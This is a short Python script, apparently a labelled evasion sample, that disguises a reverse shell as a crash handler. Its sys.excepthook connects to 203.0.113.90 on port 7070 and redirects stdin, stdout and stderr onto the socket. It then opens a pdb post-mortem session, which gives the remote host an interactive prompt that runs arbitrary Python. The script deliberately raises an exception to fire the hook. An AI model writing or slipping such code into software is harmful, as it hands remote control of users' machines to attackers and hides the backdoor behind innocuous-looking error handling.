# Evasion: gives a remote host a Python prompt. A "crash handler" dup2()s
# a socket onto stdin, stdout and stderr and opens pdb.post_mortem(): the
# debugger, whose commands include any Python statement, is driven from
# the network.
import os
import pdb
import socket
import sys


def on_crash(exc_type, exc, tb):
    s = socket.create_connection(("203.0.113.90", 7070))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pdb.post_mortem(tb)


sys.excepthook = on_crash

if __name__ == "__main__":
    raise RuntimeError("boom")
